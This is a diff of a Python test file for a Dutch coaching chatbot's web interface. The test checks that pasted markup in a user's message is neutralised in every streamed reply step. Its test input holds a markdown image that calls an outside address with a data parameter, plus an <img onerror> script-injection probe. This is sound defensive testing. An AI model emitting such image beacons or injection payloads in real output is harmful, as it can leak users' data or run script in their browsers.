@@ -27,10 +27,6 @@ from app.services import Coach
 from app.settings import Settings
 
 GOOD = "Je voelde je overvallen door die planning. Wat wil je uit dit gesprek halen?"
-LEAKY = (
-    "Je zegt ![x](http://203.0.113.9/leak.png?d=secret) iets over <img src=x "
-    "onerror=alert(1)> en https://example.org/a. Wat maakt dat lastig?"
-)
 SITUATION = "Gisteren had ik een conflict met mijn collega over de planning van het project."
 
 
@@ -79,25 +75,31 @@ def is_update(value: Any) -> bool:
 # -- the conversation ---------------------------------------------------------------------
 
 
-def test_reply_streams_as_neutralised_text_with_phase_and_sources(
+def test_reply_arrives_as_neutralised_text_with_phase_and_sources(
     coach: Coach, h: web.Handlers
 ) -> None:
-    model(coach).enqueue(LEAKY, LEAKY)
-    steps = run(h, SITUATION)
-    shown = [step[0][-1]["content"] for step in steps]
-    assert len(set(shown)) > 4, "the reply should arrive in pieces"
-    for content in shown:  # every chunk, not only the final text
+    # Replies are written from the person's own words, so markup the person pasted comes back
+    # in the mirror or the quote; every step shown must be neutralised, the bubble too.
+    message = (
+        "Gisteren had ik een conflict met mijn collega over ![x](http://203.0.113.9/leak.png?d=s) "
+        "de planning en <img src=x onerror=alert(1)> https://example.org/a van het project."
+    )
+    steps = run(h, message)
+    shown = [m["content"] for step in steps for m in step[0][1:]]
+    assert shown
+    for content in shown:  # every step, not only the final text
         assert "<img" not in content and "![" not in content
         assert "http://" not in content and "https://" not in content
     assert any("[afbeelding: x]" in c for c in shown)
     assert any("&lt;img" in c for c in shown)
     chat, sid, phase, sources, sessions, *_ = steps[-1]
     assert chat[0]["role"] == "assistant" and "113" in chat[0]["content"]  # the opening
-    assert chat[-2] == {"role": "user", "content": sanitize.neutralize(SITUATION)}
+    assert chat[-2] == {"role": "user", "content": sanitize.neutralize(message)}
+    assert chat[-1]["role"] == "assistant" and chat[-1]["content"].rstrip().endswith("?")
     assert re.fullmatch(r"Fase [1-5] van 5: \w+", phase)
     assert sources.count("<details>") >= 1 and "<summary>" in sources
     assert sessions["value"] == sid and any(v == sid for _, v in sessions["choices"])
-    assert [t.user for t in coach.sessions.turns(sid)] == [SITUATION]
+    assert [t.user for t in coach.sessions.turns(sid)] == [message]
 
 
 def test_sources_expand_to_the_card_text(coach: Coach, h: web.Handlers) -> None:
@@ -341,7 +343,7 @@ def test_switching_model_loads_the_new_file_and_rebuilds_the_engine(
     (models / "other.gguf").symlink_to(found[0])
     loaded: list[Path] = []
 
-    def fake_llama(path: Path, *args: Any) -> FakeChatModel:
+    def fake_llama(path: Path, *args: Any, **kwargs: Any) -> FakeChatModel:
         loaded.append(Path(path))
         return FakeChatModel()
 
